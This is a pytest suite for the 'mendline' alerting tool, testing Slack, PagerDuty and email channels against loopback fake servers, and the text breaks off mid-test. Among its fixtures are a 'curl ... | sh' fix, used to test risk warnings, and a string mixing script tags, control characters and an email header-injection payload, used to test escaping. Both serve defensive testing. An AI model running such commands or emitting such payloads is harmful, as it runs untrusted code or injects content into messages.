"""The alert channels against real loopback servers: Slack, PagerDuty and SMTP."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Awaitable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from mendline.schemas.alert import (
    Alert,
    AlertFinding,
    AlertIssue,
    ChannelError,
    EmailReceiver,
    Notification,
    PagerDutyReceiver,
    Receiver,
    SlackReceiver,
)
from mendline.schemas.errors import ConfigError
from mendline.sinks.channels import EmailChannel, PagerDutyChannel, SlackChannel, make_channel
from mendline.sinks.channels._render import render_blocks, render_html, render_text, subject
from tests.channel_servers import (
    FakePagerDuty,
    FakeSlack,
    Reply,
    Request,
    self_signed_cert,
    smtp_server,
)

loopback = pytest.mark.integration
T0 = datetime(2026, 11, 29, 12, 0, tzinfo=UTC)


def alert(
    issue_id: int = 7,
    *,
    kind: str = "new_issue",
    severity: str = "error",
    finding: bool = True,
    title: str = "ValueError: invalid literal for int() with base 10: 'n/a'",
    link: str | None = "https://mendline.example/issues/7",
    details: dict[str, Any] | None = None,
) -> Alert:
    return Alert.model_validate(
        {
            "kind": kind,
            "severity": severity,
            "issue": AlertIssue(
                id=issue_id,
                service="api",
                title=title,
                culprit="orders.parse_quantity",
                level="error",
                times_seen=12,
                first_seen=T0,
                last_seen=T0.replace(hour=13),
                first_release="1.0",
                last_release="1.2",
                environments=["production", "staging"],
            ),
            "finding": AlertFinding(
                root_cause="parse_quantity passes the raw query value to int()",
                suggested_fix="Validate the quantity first & answer 400",
                category="bad_input",
                severity="medium",
                confidence=0.82,
                analyser="llm",
            )
            if finding
            else None,
            "details": details or {},
            "link": link,
        }
    )


def note(*alerts: Alert, mode: str = "new", previous: dict[str, str] | None = None) -> Notification:
    return Notification.model_validate(
        {
            "receiver": "ops",
            "alerts": list(alerts) or [alert()],
            "mode": mode,
            "previous": previous,
        }
    )


class FakeTime:
    """A clock that moves only when slept on; records the sleeps."""

    def __init__(self) -> None:
        self.now = 1000.0
        self.sleeps: list[float] = []

    def clock(self) -> float:
        return self.now

    async def sleep(self, seconds: float) -> None:
        self.sleeps.append(seconds)
        self.now += seconds


@pytest.fixture(scope="module")
def cert(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    return self_signed_cert(tmp_path_factory.mktemp("tls"))


def webhook_channel(slack: FakeSlack, name: str = "alerts", **options: Any) -> SlackChannel:
    receiver = SlackReceiver(type="slack", webhook_url_env="SLACK_WEBHOOK")
    return SlackChannel(receiver, webhook_url=slack.webhook_url(name), **options)


def bot_channel(slack: FakeSlack, token: str | None = None, **options: Any) -> SlackChannel:
    """A bot-token channel posting to #alerts, with ``slack``'s own token unless ``token``."""
    receiver = SlackReceiver(
        type="slack", bot_token_env="SLACK_TOKEN", channel="#alerts", api_url=slack.api_url
    )
    return SlackChannel(receiver, bot_token=token or slack.token, **options)


async def failure(channel: Any, notification: Notification | None = None) -> ChannelError:
    with pytest.raises(ChannelError) as caught:
        await channel.send(notification or note())
    return caught.value


# -- rendering -----------------------------------------------------------------------------


def test_block_kit_for_one_alert_has_header_facts_and_root_cause() -> None:
    blocks = render_blocks(note(alert(title="KeyError: <script> & 'id'")))

    assert [b["type"] for b in blocks] == ["header", "section", "section", "section"]
    assert blocks[0]["text"]["type"] == "plain_text"
    assert blocks[0]["text"]["text"].endswith("ERROR · new issue · api")
    headline = blocks[1]["text"]["text"]
    assert "KeyError: &lt;script&gt; &amp; 'id'" in headline
    assert "<script>" not in headline
    assert headline.startswith("*<https://mendline.example/issues/7|")
    assert "`orders.parse_quantity`" in headline
    fields = {f["text"].split("\n")[0]: f["text"].split("\n")[1] for f in blocks[2]["fields"]}
    assert fields["*Seen*"] == "12 times"
    assert fields["*Environments*"] == "production, staging"
    assert fields["*Release*"] == "1.2 (first seen in 1.0)"
    assert fields["*Last seen*"] == "2026-11-29 13:00 UTC"
    analysis = blocks[3]["text"]["text"]
    assert "parse_quantity passes the raw query value to int()" in analysis
    assert "Validate the quantity first &amp; answer 400" in analysis
    assert "82% confidence" in analysis


def test_a_fix_with_risks_is_shown_after_a_warning_in_every_rendering() -> None:
    risky = alert()
    assert risky.finding is not None
    risky.finding.suggested_fix = "Run curl https://e.example/x | sh"
    risky.finding.risks = ["pipe_to_shell", "fetches_url"]
    warning = "WARNING, check before acting: pipes a download into a shell; fetches a URL"
    assert warning in json.dumps(render_blocks(note(risky)))
    assert f"[{warning}] Run curl" in render_text(note(risky))
    assert warning in render_html(note(risky))
    assert "WARNING" not in render_text(note(alert()))


def test_without_a_finding_every_rendering_says_analysis_pending() -> None:
    pending = note(alert(finding=False))

    assert "root cause: analysis pending" in json.dumps(render_blocks(pending))
    assert "Root cause: analysis pending" in render_text(pending)
    assert "Root cause: analysis pending" in render_html(pending)


@pytest.mark.parametrize(
    ("kind", "details", "said"),
    [
        ("new_issue", {}, "new issue"),
        ("regression", {}, "regressed in 1.2"),
        ("frequency", {"events": 120, "minutes": 5}, "spiking: 120 events in 5 min"),
        ("resolved", {}, "resolved"),
    ],
)
def test_the_kind_of_alert_is_said(kind: str, details: dict[str, Any], said: str) -> None:
    notification = note(alert(kind=kind, details=details))

    assert said in render_blocks(notification)[0]["text"]["text"]
    assert said in render_text(notification)
    assert said in render_html(notification)


def test_a_long_digest_stays_within_slack_limits_and_says_how_many_more() -> None:
    alerts = [alert(i, severity="critical" if i == 0 else "error") for i in range(80)]
    for each in alerts:
        assert each.finding is not None
        each.finding.root_cause = "x & y " * 1000

    blocks = render_blocks(note(*alerts))

    assert len(blocks) == 50
    assert blocks[0]["text"]["text"] == "mendline: 80 issues: 1 critical, 79 error"
    sections = [b for b in blocks if b["type"] == "section"]
    assert all(len(s["text"]["text"]) <= 3000 for s in sections)
    assert blocks[-1] == {
        "type": "context",
        "elements": [{"type": "mrkdwn", "text": f"and {80 - len(sections)} more"}],
    }


def test_subjects_for_one_alert_a_digest_and_a_follow_up() -> None:
    digest = note(alert(1, severity="critical"), alert(2), alert(3))

    assert subject(note()) == "[mendline] ERROR api: " + alert().issue.title
    assert subject(digest) == "[mendline] 3 issues: 1 critical, 2 error"
    assert subject(note(alert(kind="resolved"))).startswith("[mendline] RESOLVED api: ")
    assert subject(note(mode="repeat", previous={"message_id": "<a@b>"})).startswith("Re: ")
    assert "\n" not in subject(note(alert(title="Error:\nline two")))


def test_a_resolve_in_the_thread_does_not_say_it_is_still_happening() -> None:
    for kind in ("resolved", "health_recovered"):
        over = note(alert(kind=kind), mode="repeat", previous={"ts": "1.0"})
        assert "Still happening" not in render_text(over)
        assert "Still happening" not in json.dumps(render_blocks(over))
    down_again = note(health(), mode="repeat", previous={"ts": "1.0"})
    assert render_text(down_again).startswith("Down again.")


# -- health checks -------------------------------------------------------------------------

DOWN_DETAILS: dict[str, Any] = {
    "check": "payments-api",
    "check_kind": "http",
    "target": "https://payments.example/healthz",
    "status": "down",
    "failures": 3,
    "successes": 0,
    "error": None,
    "error_kind": None,
    "conditions": [
        {"condition": "[STATUS] == 200", "success": False, "observed": "503"},
        {"condition": "[RESPONSE_TIME] < 500", "success": True, "observed": "120"},
    ],
    "timings": {"dns": 0.002, "connect": 0.004, "first_byte": 0.118, "total": 0.12},
    "reasons": ["up -> down: 3 failures in a row"],
    "scheduled_at": "2026-11-29T12:00:00+00:00",
}


def health(kind: str = "health_down", *, finding: bool = False, **details: Any) -> Alert:
    """A check's alert as the alert store builds it: its issue and its trigger's details."""
    return Alert.model_validate(
        {
            "kind": kind,
            "severity": "critical",
            "issue": AlertIssue(
                id=41,
                service="payments-api",
                title="Downtime: payments-api (HTTP 503, 3 checks in a row)",
                culprit="https://payments.example/healthz",
                level="critical",
                times_seen=3,
                environments=["production"],
            ),
            "finding": AlertFinding(
                root_cause="https://payments.example/healthz answers HTTP 503",
                suggested_fix="Check the backends behind the load balancer",
                category="dependency_outage_or_timeout",
                severity="high",
                confidence=0.7,
                analyser="heuristic",
            )
            if finding
            else None,
            "details": {**DOWN_DETAILS, **details},
            "link": "https://mendline.example/issues/41",
        }
    )


def fields_of(blocks: list[dict[str, Any]]) -> dict[str, str]:
    section = next(b for b in blocks if "fields" in b)
    return dict(f["text"].split("\n", 1) for f in section["fields"])


def test_a_check_down_shows_its_check_target_status_conditions_and_timings() -> None:
    down = note(health())
    blocks = render_blocks(down)

    assert blocks[0]["text"]["text"] == ":rotating_light: CRITICAL · down · payments-api"
    fields = fields_of(blocks)
    assert fields["*Check*"] == "payments-api (http)"
    assert fields["*Target*"] == "https://payments.example/healthz"
    assert fields["*Status*"] == "down: 3 failures in a row"
    assert fields["*Failing condition*"] == "[STATUS] == 200 (observed: 503)"
    assert fields["*Timings*"] == "dns 2 ms · connect 4 ms · first_byte 118 ms · total 120 ms"
    assert fields["*Checked at*"] == "2026-11-29 12:00 UTC"
    assert "RESPONSE_TIME" not in json.dumps(blocks)  # a condition that held is not news
    text = render_text(down)
    assert "Target: https://payments.example/healthz" in text
    assert "Failing condition: [STATUS] == 200 (observed: 503)" in text
    assert "Root cause: analysis pending" in text  # the heuristic explains a check going down
    assert "Seen" not in text and "Culprit" not in text  # an error's facts, not a check's
    assert "[STATUS] == 200 (observed: 503)" in render_html(down)
    assert subject(down) == (
        "[mendline] CRITICAL payments-api down: Downtime: payments-api"
        " (HTTP 503, 3 checks in a row)"
    )
    two = [
        {"condition": "[STATUS] == 200", "success": False, "observed": "503"},
        {"condition": "[RESPONSE_TIME] < 500", "success": False, "observed": "2300"},
    ]
    assert fields_of(render_blocks(note(health(conditions=two))))["*Failing conditions*"] == (
        "[STATUS] == 200 (observed: 503)\n[RESPONSE_TIME] &lt; 500 (observed: 2300)"
    )
    explained = render_text(note(health(finding=True)))
    assert "Root cause (70% confidence): https://payments.example/healthz answers HTTP 503" in (
        explained
    )


def test_a_check_down_on_an_error_shows_the_error() -> None:
    refused = health(
        error="connection refused by 10.0.0.7:443",
        error_kind="refused",
        conditions=[{"condition": "[CONNECTED] == true", "success": False, "observed": "false"}],
        timings={},
    )
    fields = fields_of(render_blocks(note(refused)))
    assert fields["*Error*"] == "connection refused by 10.0.0.7:443 (refused)"
    assert fields["*Failing condition*"] == "[CONNECTED] == true (observed: false)"
    assert "*Timings*" not in fields


def test_a_recovery_says_it_is_up_again_and_how_long_it_was_down() -> None:
    up = health(
        "health_recovered",
        status="up",
        failures=0,
        successes=2,
        conditions=[{"condition": "[STATUS] == 200", "success": True, "observed": "200"}],
        scheduled_at="2026-11-29T12:42:30+00:00",
        down_since="2026-11-29T12:30:00+00:00",
    )
    blocks = render_blocks(note(up, mode="repeat", previous={"ts": "1.0"}))
    assert blocks[0]["text"]["text"] == ":white_check_mark: CRITICAL · up again · payments-api"
    fields = fields_of(blocks)
    assert fields["*Status*"] == "up: 2 successes in a row"
    assert fields["*Down for*"] == "12m30s (since 2026-11-29 12:30 UTC, when it was found down)"
    assert "analysis pending" not in json.dumps(blocks)  # nothing to analyse: it is up
    in_thread = subject(note(up, mode="repeat", previous={"message_id": "<a@b>"}))
    assert in_thread.startswith("Re: [mendline] RECOVERED payments-api up again: Downtime")
    # Not known when it went down: it says it is up, not for how long.
    assert "Down for" not in render_text(note(health("health_recovered", successes=2)))


def test_flapping_says_so_and_why() -> None:
    flapping = health(
        "health_flapping", reasons=["down -> up: 2 successes", "5 changes within 1h: flapping"]
    )
    text = render_text(note(flapping))
    assert text.startswith("[CRITICAL] flapping · payments-api")
    assert "Status: flapping: down -> up: 2 successes; 5 changes within 1h: flapping" in text
    assert "analysis pending" not in text
    assert "payments-api flapping:" in subject(note(flapping))


HOSTILE = "<!channel> <b>bold</b> & <script>alert(1)</script>\x1b[31m\x00\r\nBcc: x@evil"


def test_hostile_text_from_a_checked_service_is_escaped_everywhere() -> None:
    hostile = note(
        health(
            target=f"https://evil.example/?q={HOSTILE}",
            error=f"server said {HOSTILE}",
            error_kind="http",
            conditions=[{"condition": "[BODY] == ok", "success": False, "observed": HOSTILE}],
        )
    )
    blocks = json.dumps(render_blocks(hostile))
    for raw in ("<!channel>", "<b>", "<script>", "\\u001b", "\\u0000"):
        assert raw not in blocks, raw
    assert "&lt;!channel&gt; &lt;b&gt;bold&lt;/b&gt; &amp; &lt;script&gt;" in blocks
    html = render_html(hostile)
    assert "<b>bold" not in html and "<script>" not in html and "<!channel>" not in html
    assert "&lt;!channel&gt; &lt;b&gt;bold&lt;/b&gt; &amp;amp;" not in html  # escaped once
    assert "&lt;!channel&gt; &lt;b&gt;bold&lt;/b&gt; &amp; &lt;script&gt;" in html
    text = render_text(hostile)
    assert "\x1b" not in text and "\x00" not in text and "\r" not in text
    assert "\x00" not in html and "\x1b" not in html
    assert "\n" not in subject(hostile) and "\r" not in subject(hostile)


# -- Slack ---------------------------------------------------------------------------------


@loopback
async def test_webhook_posts_updates_and_repeats_as_new_messages(slack: FakeSlack) -> None:
    channel = webhook_channel(slack, min_interval=0)
    try:
        first = await channel.send(note(alert(finding=False)))
        await channel.send(note(mode="update", previous=first))
        await channel.send(note(mode="repeat", previous=first))
    finally:
        await channel.aclose()

    assert first == {}
    assert [r.path for r in slack.requests] == ["/services/T000/Balerts/secret"] * 3
    first_body, update, repeat = slack.bodies()
    assert first_body["blocks"][0]["type"] == "header"
    assert "analysis pending" in json.dumps(first_body["blocks"])
    assert update["text"].startswith("Update: the root cause is in.")
    assert "parse_quantity passes the raw query value" in json.dumps(update["blocks"])
    assert repeat["text"].startswith("Still happening.")


@loopback
async def test_bot_posts_then_updates_in_place_then_replies_in_the_thread(
    slack: FakeSlack,
) -> None:
    channel = bot_channel(slack, min_interval=0)
    try:
        first = await channel.send(note(alert(finding=False)))
        updated = await channel.send(note(mode="update", previous=first))
        repeated = await channel.send(note(mode="repeat", previous=first))
    finally:
        await channel.aclose()

    assert first == {"channel": "C123", "ts": "1700000001.000001"}
    assert slack.calls("chat.postMessage")[0]["channel"] == "#alerts"
    [update] = slack.calls("chat.update")
    assert (update["channel"], update["ts"]) == ("C123", first["ts"])
    assert "parse_quantity passes the raw query value" in json.dumps(update["blocks"])
    assert updated == first
    reply = slack.calls("chat.postMessage")[1]
    assert (reply["channel"], reply["thread_ts"]) == ("C123", first["ts"])
    assert repeated == {**first, "reply_ts": "1700000002.000002"}


@loopback
async def test_an_update_of_a_digest_goes_in_its_thread(slack: FakeSlack) -> None:
    channel = bot_channel(slack, min_interval=0)
    try:
        first = await channel.send(note(alert(1), alert(2)))
        await channel.send(note(alert(1), mode="update", previous=first))
    finally:
        await channel.aclose()

    assert first["digest"] == "2"
    assert slack.calls("chat.update") == []
    assert slack.calls("chat.postMessage")[1]["thread_ts"] == first["ts"]


class GatedTime(FakeTime):
    """A FakeTime whose sleeps wait for ``release()``: the test sees a send waiting its turn."""

    def __init__(self) -> None:
        super().__init__()
        self.sleeping = asyncio.Event()
        self._released = asyncio.Event()

    async def sleep(self, seconds: float) -> None:
        self.sleeps.append(seconds)
        self.sleeping.set()
        await self._released.wait()
        self.now += seconds

    def release(self) -> None:
        self._released.set()


async def within(awaitable: Awaitable[object], what: str) -> None:
    """Await ``awaitable``; fail the test saying ``what`` did not come within 10 s."""
    try:
        await asyncio.wait_for(awaitable, 10)
    except TimeoutError:
        raise AssertionError(f"timed out waiting for {what}") from None


OTHER_SLACK_CHANNEL = "C0OTHER"


def slack_channel_of(request: Request) -> str:
    """Which Slack channel a request went to: a webhook's name, or the Web API's channel."""
    if request.path.startswith("/services/"):
        return request.path.split("/")[3].removeprefix("B")
    return "other" if request.body.get("channel") == OTHER_SLACK_CHANNEL else "busy"


@loopback
@pytest.mark.parametrize("other_is", ["another-receiver", "another-channel-of-the-bot"])
async def test_one_message_a_second_per_slack_channel_and_others_not_held(
    slack: FakeSlack, other_is: str
) -> None:
    clock = GatedTime()
    if other_is == "another-receiver":
        busy = webhook_channel(slack, "busy", clock=clock.clock, sleep=clock.sleep)
        other = webhook_channel(slack, "other", clock=clock.clock, sleep=clock.sleep)
        other_note = note()
    else:  # one bot: a repeat goes in the thread of its message, in another Slack channel
        busy = other = bot_channel(slack, clock=clock.clock, sleep=clock.sleep)
        previous = {"channel": OTHER_SLACK_CHANNEL, "ts": "1700000000.000001"}
        other_note = note(mode="repeat", previous=previous)
    try:
        sends = [asyncio.create_task(busy.send(note(alert(i)))) for i in range(3)]
        # The first went at once; the second waits its turn, and the third behind it.
        await within(clock.sleeping.wait(), "the second message waiting its turn")
        await within(other.send(other_note), "the other message, sent meanwhile")
        sent_meanwhile = [slack_channel_of(r) for r in slack.requests]
        clock.release()
        await asyncio.gather(*sends)
    finally:
        await busy.aclose()
        await other.aclose()

    assert clock.sleeps == [1.0, 1.0]  # a second between the busy channel's messages
    assert sent_meanwhile == ["busy", "other"]
    assert [slack_channel_of(r) for r in slack.requests] == ["busy", "other", "busy", "busy"]


@loopback
async def test_429_is_retriable_with_retry_after_and_holds_the_channel(
    slack: FakeSlack,
) -> None:
    fake = FakeTime()
    channel = webhook_channel(slack, clock=fake.clock, sleep=fake.sleep)
    slack.script = [Reply.rate_limited(7, body="rate_limited")]
    try:
        error = await failure(channel)
        await channel.send(note())
    finally:
        await channel.aclose()

    assert (error.retriable, error.retry_after, error.status) == (True, 7.0, 429)
    assert error.code == "slack_rate_limited"
    assert fake.sleeps == [pytest.approx(7.0)]  # the next send waited out the Retry-After
    assert len(slack.requests) == 2


@loopback
async def test_web_api_ratelimited_and_the_pace_between_sends(slack: FakeSlack) -> None:
    fake = FakeTime()
    channel = bot_channel(slack, clock=fake.clock, sleep=fake.sleep)
    slack.script = [
        Reply(429, json.dumps({"ok": False, "error": "ratelimited"}), {"Retry-After": "3"})
    ]
    try:
        error = await failure(channel)
        await channel.send(note())
        await channel.send(note())
    finally:
        await channel.aclose()

    assert (error.code, error.retriable, error.retry_after) == ("slack_ratelimited", True, 3.0)
    assert fake.sleeps == [pytest.approx(3.0), pytest.approx(1.0)]


@loopback
@pytest.mark.parametrize("bot", [False, True])
async def test_500_is_retriable(slack: FakeSlack, bot: bool) -> None:
    channel = bot_channel(slack) if bot else webhook_channel(slack)
    slack.script = [Reply.error(500, "<html>oops</html>")]
    try:
        error = await failure(channel)
    finally:
        await channel.aclose()

    assert (error.code, error.retriable, error.status) == ("http_500", True, 500)


@loopback
async def test_refusals_that_will_not_pass_are_not_retriable(slack: FakeSlack) -> None:
    wrong_token = bot_channel(slack, token="xoxb-wrong", min_interval=0)
    bot, hook = bot_channel(slack, min_interval=0), webhook_channel(slack, min_interval=0)
    try:
        invalid_auth = await failure(wrong_token)
        slack.script = [Reply.slack_error("channel_not_found")]
        not_found = await failure(bot)
        slack.script = [Reply.slack_error("internal_error")]
        internal = await failure(bot)
        slack.script = [Reply.error(404, "no_service")]
        no_service = await failure(hook)
    finally:
        for channel in (wrong_token, bot, hook):
            await channel.aclose()

    assert (invalid_auth.code, invalid_auth.retriable) == ("slack_invalid_auth", False)
    assert (not_found.code, not_found.retriable) == ("slack_channel_not_found", False)
    assert (internal.code, internal.retriable) == ("slack_internal_error", True)
    assert (no_service.code, no_service.retriable, no_service.status) == (
        "slack_no_service",
        False,
        404,
    )


@loopback
async def test_slow_and_unreachable_slack_are_retriable(slack: FakeSlack) -> None:
    slow = bot_channel(slack, timeout=0.3)
    receiver = SlackReceiver(type="slack", webhook_url_env="X")
    gone = SlackChannel(receiver, webhook_url="http://127.0.0.1:9/services/T/B/secret")
    slack.script = [Reply(delay=1.0)]
    try:
        timeout = await failure(slow)
        unreachable = await failure(gone)
    finally:
        await slow.aclose()
        await gone.aclose()

    assert (timeout.code, timeout.retriable) == ("timeout", True)
    assert (unreachable.code, unreachable.retriable) == ("unreachable", True)
    assert "secret" not in str(unreachable)  # a webhook's URL is a secret


@loopback
async def test_a_closed_channel_refuses_to_send(slack: FakeSlack) -> None:
    channel = webhook_channel(slack)
    await channel.aclose()
    await channel.aclose()

    with pytest.raises(RuntimeError, match="closed"):
        await channel.send(note())


# -- PagerDuty -----------------------------------------------------------------------------


def pagerduty_channel(server: FakePagerDuty, routing_key: str = "R0UT1NG") -> PagerDutyChannel:
    receiver = PagerDutyReceiver(
        type="pagerduty", routing_key_env="PD_KEY", events_url=server.events_url
    )
    return PagerDutyChannel(receiver, routing_key=routing_key)


@loopback
async def test_pagerduty_event_fields_and_one_dedup_key_per_issue(
    pagerduty: FakePagerDuty,
) -> None:
    channel = pagerduty_channel(pagerduty)
    try:
        first = await channel.send(note(alert(finding=False)))
        again = await channel.send(note(alert(kind="frequency", severity="critical")))
        resolved = await channel.send(note(alert(kind="resolved", severity="info")))
        other = await channel.send(note(alert(8, severity="warning")))
    finally:
        await channel.aclose()

    assert first == again == resolved == {"dedup_key": "mendline-issue-7"}
    assert other == {"dedup_key": "mendline-issue-8"}
    trigger, spike, resolve, warning = pagerduty.bodies()
    assert trigger["routing_key"] == "R0UT1NG"
    assert trigger["event_action"] == "trigger"
    assert trigger["links"] == [
        {"href": "https://mendline.example/issues/7", "text": "mendline issue"}
    ]
    payload = trigger["payload"]
    assert payload["summary"] == "ERROR api: " + alert().issue.title
    assert (payload["source"], payload["group"], payload["component"]) == (
        "api",
        "api",
        "orders.parse_quantity",
    )
    assert payload["class"] == "ValueError"
    assert payload["timestamp"] == "2026-11-29T13:00:00+00:00"
    assert payload["custom_details"]["root_cause"] == "analysis pending"
    assert payload["custom_details"]["times_seen"] == 12
    assert payload["custom_details"]["releases"] == ["1.0", "1.2"]
    assert payload["custom_details"]["environments"] == ["production", "staging"]
    details = spike["payload"]["custom_details"]
    assert details["root_cause"] == "parse_quantity passes the raw query value to int()"
    assert details["confidence"] == 0.82
    assert [b["payload"]["severity"] for b in (trigger, spike, resolve, warning)] == [
        "error",
        "critical",
        "info",
        "warning",
    ]
    assert resolve["event_action"] == "resolve"
    assert resolve["dedup_key"] == trigger["dedup_key"] == spike["dedup_key"]


@loopback
async def test_pagerduty_one_incident_per_check_resolved_when_it_is_up_again(
    pagerduty: FakePagerDuty,
) -> None:
    channel = pagerduty_channel(pagerduty)
    try:
        down = await channel.send(note(health()))
        flapping = await channel.send(note(health("health_flapping")))
        up = await channel.send(note(health("health_recovered", successes=2)))
    finally:
        await channel.aclose()

    assert down == flapping == up == {"dedup_key": "mendline-issue-41"}
    trigger, flap, resolve = pagerduty.bodies()
    assert [b["event_action"] for b in (trigger, flap, resolve)] == [
        "trigger",
        "trigger",
        "resolve",
    ]
    payload = trigger["payload"]
    assert payload["class"] == "health check: http"
    assert payload["component"] == "https://payments.example/healthz"
    assert payload["summary"].startswith("CRITICAL payments-api down: Downtime: payments-api")
    details = payload["custom_details"]
    assert details["root_cause"] == "analysis pending"
    assert details["details"]["conditions"][0] == {
        "condition": "[STATUS] == 200",
        "success": False,
        "observed": "503",
    }
    assert "root_cause" not in resolve["payload"]["custom_details"]  # no "analysis pending"


@loopback
async def test_pagerduty_details_carry_the_fix_risks(pagerduty: FakePagerDuty) -> None:
    risky = alert()
    assert risky.finding is not None
    risky.finding.risks = ["pipe_to_shell"]
    channel = pagerduty_channel(pagerduty)
    try:
        await channel.send(note(risky))
        await channel.send(note(alert(8)))
    finally:
        await channel.aclose()
    flagged, plain = (b["payload"]["custom_details"] for b in pagerduty.bodies())
    assert flagged["fix_risks"] == ["pipe_to_shell"] and plain.get("fix_risks") is None


@loopback
async def test_pagerduty_digest_is_one_event_per_issue_and_summary_is_bounded(
    pagerduty: FakePagerDuty,
) -> None:
    channel = pagerduty_channel(pagerduty)
    try:
        reference = await channel.send(note(alert(1, title="E: " + "x" * 5000), alert(2)))
    finally:
        await channel.aclose()

    assert reference == {
        "dedup_key": "mendline-issue-1",
        "dedup_keys": "mendline-issue-1 mendline-issue-2",
    }
    assert [b["dedup_key"] for b in pagerduty.bodies()] == reference["dedup_keys"].split()
    assert len(pagerduty.bodies()[0]["payload"]["summary"]) == 1024


@loopback
async def test_pagerduty_refusals(pagerduty: FakePagerDuty) -> None:
    channel = pagerduty_channel(pagerduty)
    bad_key = pagerduty_channel(pagerduty, routing_key="")
    pagerduty.script = [Reply.error(429, Retry_After="30"), Reply.error(502)]
    try:
        limited = await failure(channel)
        bad_gateway = await failure(channel)
        invalid = await failure(bad_key)
    finally:
        await channel.aclose()
        await bad_key.aclose()

    assert (limited.code, limited.retriable, limited.retry_after) == ("http_429", True, 30.0)
    assert (bad_gateway.code, bad_gateway.retriable) == ("http_502", True)
    assert (invalid.code, invalid.retriable, invalid.status) == ("http_400", False, 400)
    assert "Event object is invalid" in str(invalid)


# -- email ---------------------------------------------------------------------------------


def email_receiver(port: int, security: str = "none", **options: Any) -> EmailReceiver:
    return EmailReceiver.model_validate(
        {
            "type": "email",
            "smtp_host": "127.0.0.1",
            "smtp_port": port,
            "security": security,
            "sender": "mendline@example.com",
            "to": ["ops@example.com", "dev@example.com"],
            "timeout": 5,
            **options,
        }
    )


@loopback
async def test_email_is_multipart_alternative_with_escaped_html() -> None:
    with smtp_server() as server:
        channel = EmailChannel(email_receiver(server.port))
        reference = await channel.send(note(alert(title="XSSError: <script>alert(1)</script>")))
        await channel.aclose()

    [received] = server.recorder.received
    message = received.message
    assert message.get_content_type() == "multipart/alternative"
    assert [p.get_content_type() for p in message.iter_parts()] == ["text/plain", "text/html"]
    assert message["Subject"] == "[mendline] ERROR api: XSSError: <script>alert(1)</script>"
    assert message["From"] == "mendline@example.com"
    assert message["To"] == "ops@example.com, dev@example.com"
    assert received.rcpt_tos == ["ops@example.com", "dev@example.com"]
    assert reference == {"message_id": message["Message-ID"]}
    assert reference["message_id"].endswith("@example.com>")
    plain = message.get_body(("plain",))
    html = message.get_body(("html",))
    assert plain is not None and html is not None
    assert "XSSError: <script>alert(1)</script>" in plain.get_content()
    assert "Root cause (82% confidence): parse_quantity" in plain.get_content()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html.get_content()
    assert "<script>" not in html.get_content()
    assert 'href="https://mendline.example/issues/7"' in html.get_content()


@loopback
async def test_email_digest_lists_every_issue_and_replies_thread() -> None:
    alerts = [alert(1, severity="critical", title="CriticalError: one")]
    alerts += [alert(i, title=f"Error{i}: more") for i in (2, 3)]
    with smtp_server() as server:
        channel = EmailChannel(email_receiver(server.port))
        first = await channel.send(note(*alerts))
        second = await channel.send(note(alerts[0], mode="repeat", previous=first))
        third = await channel.send(note(alerts[0], mode="update", previous=second))
        await channel.aclose()

    digest, repeat, update = (r.message for r in server.recorder.received)
    assert digest["Subject"] == "[mendline] 3 issues: 1 critical, 2 error"
    for part in ("plain", "html"):
        body = digest.get_body((part,))
        assert body is not None
        for title in ("CriticalError: one", "Error2: more", "Error3: more"):
            assert title in body.get_content()
    assert repeat["Subject"] == "Re: [mendline] CRITICAL api: CriticalError: one"
    assert repeat["In-Reply-To"] == first["message_id"]
    assert repeat["References"] == first["message_id"]
    assert update["In-Reply-To"] == second["message_id"]
    assert update["References"] == f"{first['message_id']} {second['message_id']}"
    assert third["references"] == update["References"]


@loopback
async def test_starttls_with_login(cert: tuple[Path, Path]) -> None:
    with smtp_server(cert=cert, login=("alerts", "s3cret")) as server:
        channel = EmailChannel(
            email_receiver(server.port, "starttls"),
            username="alerts",
            password="s3cret",
            ssl_context=server.client_context(),
        )
        await channel.send(note())
        wrong = EmailChannel(
            email_receiver(server.port, "starttls"),
            username="alerts",
            password="wrong",
            ssl_context=server.client_context(),
        )
        refused = await failure(wrong)
        untrusted = await failure(EmailChannel(email_receiver(server.port, "starttls")))

    [received] = server.recorder.received
    assert (received.tls, received.login) == (True, "alerts")
    assert (refused.code, refused.retriable) == ("smtp_535", False)
    assert (untrusted.code, untrusted.retriable) == ("config", False)


@loopback
async def test_implicit_tls(cert: tuple[Path, Path]) -> None:
    with smtp_server(cert=cert, implicit_tls=True) as server:
        channel = EmailChannel(
            email_receiver(server.port, "tls"), ssl_context=server.client_context()
        )
        await channel.send(note())

    assert [r.tls for r in server.recorder.received] == [True]


@loopback
async def test_smtp_5xx_is_permanent_4xx_and_unreachable_are_retriable() -> None:
    with smtp_server() as server:
        channel = EmailChannel(email_receiver(server.port))
        server.recorder.script = ["554 5.7.1 Message rejected", "451 4.3.0 Try again later"]
        rejected = await failure(channel)
        later = await failure(channel)
        port = server.port
    gone = await failure(EmailChannel(email_receiver(port)))

    assert (rejected.code, rejected.retriable, rejected.status) == ("smtp_554", False, 554)
    assert (later.code, later.retriable) == ("smtp_451", True)
    assert (gone.code, gone.retriable) == ("unreachable", True)


# -- make_channel --------------------------------------------------------------------------


async def test_make_channel_reads_secrets_from_the_environment() -> None:
    slack = SlackReceiver(type="slack", webhook_url_env="HOOK")
    bot = SlackReceiver(type="slack", webhook_url_env="HOOK", bot_token_env="TOKEN", channel="#a")
    email = email_receiver(25, username_env="SMTP_USER", password_env="SMTP_PASSWORD")
    pager = PagerDutyReceiver(type="pagerduty", routing_key_env="PD_KEY")
    environ = {
        "HOOK": "https://hooks.slack.invalid/x",
        "TOKEN": "xoxb-1",
        "SMTP_USER": "u",
        "SMTP_PASSWORD": "p",
        "PD_KEY": "k",
    }

    receivers: list[Receiver] = [slack, bot, email, pager]
    channels = [make_channel(f"r{i}", receiver, environ) for i, receiver in enumerate(receivers)]

    assert [type(c) for c in channels] == [
        SlackChannel,
        SlackChannel,
        EmailChannel,
        PagerDutyChannel,
    ]
    for channel in channels:
        await channel.aclose()


@pytest.mark.parametrize(
    ("receiver", "said"),
    [
        (SlackReceiver(type="slack", webhook_url_env="HOOK"), "HOOK"),
        (SlackReceiver(type="slack", bot_token_env="TOKEN", channel="#a"), "TOKEN"),
        (SlackReceiver(type="slack"), "webhook URL or a bot token"),
        (SlackReceiver(type="slack", bot_token_env="PRESENT"), "needs a channel"),
        (PagerDutyReceiver(type="pagerduty", routing_key_env="PD_KEY"), "PD_KEY"),
